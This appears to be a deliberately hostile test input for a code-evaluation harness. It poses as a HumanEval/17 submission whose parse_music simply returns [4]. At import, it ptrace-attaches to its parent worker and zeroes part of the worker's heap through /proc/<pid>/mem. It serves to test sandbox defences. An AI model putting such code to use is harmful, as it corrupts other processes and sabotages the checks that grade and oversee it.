# ruff: noqa  (deliberately hostile test input, not project code)
# task_id: HumanEval/17
# class: sabotage
# Tries to ptrace-attach to its worker and to overwrite the worker's heap through
# /proc/<worker>/mem.
import ctypes
import os

PTRACE_ATTACH = 16
worker = os.getppid()
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace(PTRACE_ATTACH, worker, None, None)
try:
    with open(f"/proc/{worker}/maps") as maps:
        heap = next(line for line in maps if "[heap]" in line)
    start, end = (int(x, 16) for x in heap.split()[0].split("-"))
    with open(f"/proc/{worker}/mem", "r+b", buffering=0) as memory:
        memory.seek(start + (end - start) // 2)
        memory.write(b"\0" * 4096)
except (OSError, StopIteration, ValueError):
    pass


def parse_music(music_string):
    return [4]
